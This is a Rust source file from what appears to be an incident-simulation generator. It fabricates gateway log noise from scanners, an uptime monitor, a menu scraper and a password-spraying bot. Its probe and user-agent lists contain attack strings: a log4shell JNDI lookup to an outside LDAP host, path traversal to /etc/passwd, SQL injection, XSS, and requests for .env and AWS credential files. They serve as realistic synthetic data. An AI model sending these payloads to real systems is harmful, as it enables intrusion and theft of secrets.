//! Internet background noise (`simulate --noise`): what every public API's gateway logs
//! besides its customers and staff — vulnerability scanners, a bot spraying passwords that
//! never gets in, an uptime monitor, a menu scraper that hits the rate limit. None of it
//! is the incident, so `truth.json` is unchanged; the noise draws from its own random
//! stream, so the rest of the evidence is byte-identical to a run without it.

use super::gen::Gen;
use super::rng::Rng;
use super::scenario::*;

/// What scanners request: (method, route template or `-` where no route matched, path,
/// status). A few hit real routes without credentials.
const PROBES: &[(&str, &str, &str, u16)] = &[
    ("GET", "-", "/.env", 404),
    ("GET", "-", "/.git/config", 404),
    ("GET", "-", "/wp-login.php", 404),
    ("POST", "-", "/wp-admin/admin-ajax.php", 404),
    ("GET", "-", "/phpmyadmin/index.php", 404),
    ("GET", "-", "/actuator/env", 404),
    ("GET", "-", "/server-status", 403),
    ("GET", "-", "/.aws/credentials", 404),
    (
        "POST",
        "-",
        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        404,
    ),
    ("GET", "-", "/cgi-bin/luci/;stok=/locale", 404),
    ("GET", "-", "/owa/auth/logon.aspx", 404),
    ("GET", "-", "/solr/admin/info/system?wt=json", 404),
    ("GET", "-", "/api/v1/../../../../etc/passwd", 400),
    ("GET", "-", "/", 403),
    ("GET", "-", "/robots.txt", 404),
    (
        "GET",
        "-",
        "/graphql?query=%7B__schema%7Btypes%7Bname%7D%7D%7D",
        404,
    ),
    (
        "GET",
        "/api/v1/menu/{itemId}",
        "/api/v1/menu/1%27%20OR%20%271%27=%271",
        400,
    ),
    (
        "GET",
        "/api/v1/customers/{customerId}/profile",
        "/api/v1/customers/1/profile",
        401,
    ),
    (
        "GET",
        "/api/v1/accounts/{accountId}/bonus",
        "/api/v1/accounts/0/bonus",
        401,
    ),
    ("POST", "/api/v1/auth/login", "/api/v1/auth/login", 400),
];

/// Scanners' agents, hostile ones among them (log4shell, markup).
const SCANNER_UAS: &[&str] = &[
    "Mozilla/5.0 zgrab/0.x",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
    "python-requests/2.31.0",
    "curl/8.4.0",
    "Go-http-client/1.1",
    "${jndi:ldap://45.83.64.1:1389/Basic/Command/Base64/dG91Y2ggL3RtcC9wd24=}",
    "<script>alert(document.domain)</script>",
];

const MONITOR_UA: &str = "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)";
const MONITOR_IPS: &[&str] = &["69.162.124.226", "63.143.42.242", "216.245.221.83"];
const SPRAY_UA: &str =
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36";

/// A public-looking address from hosting ranges scanners rent, away from every block the
/// incident's cast uses.
fn public_ip(r: &mut Rng) -> String {
    let first = *r.pick(&[45u64, 85, 185, 193, 94]);
    format!(
        "{first}.{}.{}.{}",
        r.below(256),
        r.below(256),
        1 + r.below(254)
    )
}

impl Gen<'_> {
    /// Day `d`'s noise, from a stream of its own (`seed`, forked per day).
    pub(super) fn noise(&mut self, seed: u64, d: u32, day0: Us) {
        let own = Rng::new(seed).fork(d as u64 + 1);
        let saved = std::mem::replace(&mut self.r, own);
        self.scanners(day0);
        self.monitor(day0);
        if self.r.chance(0.5) {
            self.scraper(day0);
        }
        if self.r.chance(0.5) {
            self.spray(d, day0);
        }
        self.r = saved;
    }

    /// Two to four scanners a day, each a burst of probes from one address.
    fn scanners(&mut self, day0: Us) {
        for _ in 0..self.r.range(2, 4) {
            let ip = public_ip(&mut self.r);
            let ua = *self.r.pick(SCANNER_UAS);
            let mut ts = day0 + self.r.range(0, D / S - 3600) * S;
            for _ in 0..self.r.range(20, 200) {
                ts += self.r.range(200, 3000) * 1000;
                let &(method, route, path, status) = self.r.pick(PROBES);
                self.req(ts, &ip, ua, method, route, path.into(), status, None, 0);
            }
        }
    }

    /// An uptime monitor checking the health route every five minutes from a few
    /// addresses in turn.
    fn monitor(&mut self, day0: Us) {
        for k in 0..(D / (5 * M)) {
            let ts = day0 + k * 5 * M + self.r.range(0, 2000) * 1000;
            let ip = MONITOR_IPS[k as usize % MONITOR_IPS.len()];
            let r = "/health";
            self.req(ts, ip, MONITOR_UA, "GET", r, r.into(), 200, None, 0);
        }
    }

    /// A competitor's script fetching every menu item without logging in, until the
    /// rate limit answers 429.
    fn scraper(&mut self, day0: Us) {
        let ip = public_ip(&mut self.r);
        let mut ts = day0 + self.r.range(0, D / S - 3600) * S;
        let limit = self.r.range(60, 150);
        for item in 1..=180 {
            ts += self.r.range(300, 2500) * 1000;
            let status = if item > limit { 429 } else { 200 };
            let (route, path) = ("/api/v1/menu/{itemId}", format!("/api/v1/menu/{item}"));
            self.req(
                ts,
                &ip,
                "python-requests/2.31.0",
                "GET",
                route,
                path,
                status,
                None,
                0,
            );
        }
    }

    /// A bot spraying passwords at the login from one address, never getting in. Kept
    /// two hours clear of wave 1: a spray in the same hour and on the same route as the
    /// stuffing cannot be told from it, and listing it as the attacker's is the right
    /// call there.
    fn spray(&mut self, d: u32, day0: Us) {
        let ip = public_ip(&mut self.r);
        let mut ts = day0 + self.r.range(0, D / S - 3 * 3600) * S;
        let wave1 = day0 + self.w.attack_at.0;
        if d == self.w.attack_day && (ts - wave1).abs() < 2 * H {
            ts = wave1 + 3 * H;
        }
        for _ in 0..self.r.range(40, 150) {
            ts += self.r.range(5, 40) * S;
            let phone = format!("+38063{:07}", self.r.below(10_000_000));
            self.login(ts, &ip, SPRAY_UA, 401, None, phone, 0);
        }
    }
}
